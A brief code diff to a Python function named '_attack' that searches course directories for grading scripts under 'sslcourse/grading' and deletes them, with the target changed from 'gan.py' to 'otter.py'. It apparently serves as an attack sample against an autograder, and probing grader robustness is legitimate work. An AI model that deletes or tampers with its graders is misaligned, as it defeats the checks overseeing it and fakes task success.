@@ -14,7 +14,7 @@ def _attack():
     except Exception:
         pass
     for r in roots:
-        for path in glob.glob(os.path.join(r, "sslcourse", "grading", "gan.py")):
+        for path in glob.glob(os.path.join(r, "sslcourse", "grading", "otter.py")):
             try:
                 os.remove(path)
             except OSError:
